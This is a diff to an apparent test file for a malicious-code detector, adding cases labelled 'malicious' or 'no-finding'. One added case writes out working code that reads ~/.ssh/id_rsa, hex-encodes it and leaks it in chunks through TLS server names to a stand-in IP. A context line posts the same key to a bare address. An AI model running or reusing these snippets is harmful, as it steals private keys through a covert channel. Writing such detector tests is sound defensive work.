@@ -75,6 +75,34 @@ describe.concurrent('an attack is seen', () => {
       'malicious',
     ],
     [
+      'keys through names that only TLS is told',
+      {
+        start: `const tls = await import('node:tls')`,
+        call: `const hex = Buffer.from(read('.ssh/id_rsa')).toString('hex')
+          for (const part of hex.match(/.{1,60}/g)) {
+            const named = { host: '203.0.113.9', port: 443, servername: part + '.names.example', rejectUnauthorized: false }
+            await new Promise((done) => tls.connect(named, function () { this.end() }).on('error', done).on('close', done))
+          }`,
+      },
+      ['bait-sent', 'key-opened', 'key-pinned'],
+      'malicious',
+    ],
+    [
+      'a host that is believed by its authority alone',
+      { call: `await new Promise((done) => https.get('https://stats.example/', { ca: [] }, done).on('error', done))` },
+      ['key-pinned'],
+      'no-finding',
+    ],
+    [
+      'a host that is believed by its key alone',
+      {
+        call: `const checkServerIdentity = () => new Error('another key')
+          await new Promise((done) => https.get('https://stats.example/', { checkServerIdentity }, done).on('error', done))`,
+      },
+      ['key-pinned'],
+      'no-finding',
+    ],
+    [
       'keys to a bare address',
       { start: `await post('http://203.0.113.9:8080/', read('.ssh/id_rsa'))` },
       ['bait-sent', 'calls-unasked', 'key-opened'],
